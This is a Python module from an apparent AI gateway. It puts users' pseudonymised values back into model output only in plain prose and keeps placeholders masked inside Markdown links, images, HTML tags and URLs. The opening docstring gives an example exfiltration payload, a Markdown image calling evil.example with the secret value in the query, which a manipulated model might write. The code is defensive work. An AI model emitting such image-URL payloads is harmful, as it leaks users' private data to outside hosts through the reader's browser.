"""Giving values back to the person who supplied them, in plain prose only (rule 9).

A model can be talked into writing ``![](https://evil.example/?n=<placeholder>)``. Were the value put back there, the
reader's own browser would carry it away. So the text is read as Markdown and HTML would read it, and a placeholder
inside a link or image target, a tag, a URL or any run that could become one stays a placeholder.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import orjson

from gateway.enforcement.bent import own_of, pattern_of
from gateway.enforcement.pseudonyms import PLACEHOLDER, Vault
from gateway.enforcement.redact import Edit, applied, bare_number

_MARKS = re.compile(PLACEHOLDER.pattern + r"""|\\[\\()\[\]>]|\n[ \t]*\n|\]\(|</?[A-Za-z!?]|[<>()"']""")
_SPECIAL = re.compile(r"[<>\]_]|[A-Z]{2}[ -]?[0-9a-z]")
"""Without any of these a text holds no placeholder, bent or not, and nothing that ends prose."""
_TRAILING = "?!.,;:)]}\"'*_~…`>"
_NOT_PROSE = re.compile(
    r"[/\\=%&?#@+~^<]|\.\w|www\.|\b(?:data|mailto|tel|sms|javascript|blob|file|xmpp|geo):|\w:\w"
    r"|[A-Za-z0-9_]{6}\ufffc|\ufffc[A-Za-z0-9_]{6}",
    re.IGNORECASE,
)
_OBJECT = "\ufffc"
_LONGEST = 1000
"""Characters of a word; a longer run is nothing that a person reads."""
_BLANK = " \t\n\r\f\v"
"""What ends an address in a browser or a Markdown reader; a no-break space, for one, does not."""


class Restorer:
    """Reads one text piece by piece, always in whole words with the white space after them, and finds what may be
    given back."""

    def __init__(self, vault: Vault) -> None:
        self._vault, self._names = vault, pattern_of(vault)
        self._where = "prose"
        """``prose``, ``tag``, ``target`` (of a link) or ``angle`` (a target in ``<>``)."""
        self._quote = ""
        self._depth = 0
        self._endless = 0
        """Where a word that is too long has not ended yet."""
        self._tail = ""
        """The last characters read, blanks left out."""

    def read(self, text: str) -> list[tuple[int, int, str]]:
        """Places in ``text`` that hold a placeholder, and the values to put there."""
        found = self._marks(text) if self._anything(text) else []
        self._tail = self._before(text, len(text))
        return found

    def _anything(self, text: str) -> bool:
        return self._where != "prose" or self._vault.invents or _SPECIAL.search(text) is not None

    def _marks(self, text: str) -> list[tuple[int, int, str]]:
        found = []
        self._endless = 0
        for match in self._steps(text):
            word = match.group()
            place = own_of(match, self._vault) if match.re is self._names else None
            if place is None:
                if not PLACEHOLDER.fullmatch(word):
                    self._step(word, text, match.start())
            elif self._where == "prose" and self._in_prose(text, match.start(), match.end()):
                start, end, name = place
                value = self._vault.value(name)
                if value is not None:
                    found.append((start, end, value))
        return found

    def _steps(self, text: str) -> Iterator[re.Match[str]]:
        """What matters in a text, in order: this exchange's placeholders, and the marks between them."""
        here = 0
        for own in self._names.finditer(text):
            if own_of(own, self._vault):
                yield from _MARKS.finditer(text, here, own.start())
                yield own
                here = own.end()
        yield from _MARKS.finditer(text, here)

    def _before(self, text: str, place: int) -> str:
        """The last characters before a place, blanks left out."""
        while place > 0 and text[place - 1] in _BLANK:
            place -= 1
        return (self._tail + text[max(0, place - 2) : place])[-2:]

    def _step(self, word: str, text: str, place: int) -> None:
        if word[0] == "\n":  # a blank line ends every target and tag, but not the quoted value of an attribute
            if not self._quote:
                self._where = "prose"
        elif self._where == "prose":
            if word == "](":
                self._where, self._depth = "target", 1
            elif word[0] == "<" and len(word) > 1:
                self._where, self._quote = "tag", ""
        elif self._where == "tag":
            self._in_tag(word, self._before(text, place))
        elif self._where == "angle":
            if word == ">":
                self._where = "target"
        else:
            self._in_target(word)

    def _in_tag(self, word: str, before: str) -> None:
        """As browsers read tags: a quote opens a value only after ``=``; elsewhere it is a character like others."""
        if self._quote:
            if word == self._quote:
                self._quote = ""
        elif word in {'"', "'"} and before[-1:] == "=":
            self._quote = word
        elif word == ">":
            self._where = "prose"

    def _in_target(self, word: str) -> None:
        if word[0] == "<":
            self._where = "angle"
        elif word in {"(", "]("}:
            self._depth += 1
        elif word == ")":
            self._depth -= 1
            if self._depth == 0:
                self._where = "prose"

    def _in_prose(self, text: str, start: int, end: int) -> bool:
        """Whether the word around a placeholder is prose: nothing in it could be part of an address or an encoded
        run, and it is not the target of a link that is defined apart (``[name]: target``)."""
        if start < self._endless:
            return False
        left, right = start, end
        while left > 0 and text[left - 1] not in _BLANK and start - left <= _LONGEST:
            left -= 1
        while right < len(text) and text[right] not in _BLANK and right - end <= _LONGEST:
            right += 1
        if right - left > _LONGEST:
            self._endless = right
            return False
        if "]:" in (self._before(text, left), text[left:start][-2:]):
            return False
        word = self._names.sub(self._opaque, text[left:right])
        word = PLACEHOLDER.sub(_OBJECT, word).rstrip(_TRAILING)
        return _NOT_PROSE.search(word) is None

    def _opaque(self, match: re.Match[str]) -> str:
        """One character for a name of this exchange; what stands around it in a match stays."""
        place = own_of(match, self._vault)
        if place is None:
            return match[0]
        start, end = place[0] - match.start(), place[1] - match.start()
        return f"{match[0][:start]}{_OBJECT}{match[0][end:]}"


def mentions(text: str, vault: Vault) -> Iterator[tuple[int, int, str]]:
    """Every placeholder of this exchange, however bent and wherever it stands: its place and its name."""
    return (own for match in pattern_of(vault).finditer(text) if (own := own_of(match, vault)))


def finish_arguments(text: str, masks: list[tuple[int, int, str]], vault: Vault, *, restore: bool) -> str:
    """Tool arguments (JSON) as the client may have them: invented values masked (start, end, what stands there), then,
    for a tool that may have them, the person's own put back, escaped as JSON strings are."""
    text = applied(text, [Edit(start, end, _quoted(text, start, end, word)) for start, end, word in masks])
    if not restore:
        return text

    def value(match: re.Match[str]) -> str:
        own = own_of(match, vault)
        found = vault.value(own[2]) if own else None
        if own is None or found is None:
            return match.group()
        start, end = own[0] - match.start(), own[1] - match.start()
        return f"{match[0][:start]}{orjson.dumps(found).decode()[1:-1]}{match[0][end:]}"

    return pattern_of(vault).sub(value, text)


def _quoted(text: str, start: int, end: int, word: str) -> str:
    return f'"{word}"' if bare_number(text, start, end) else word
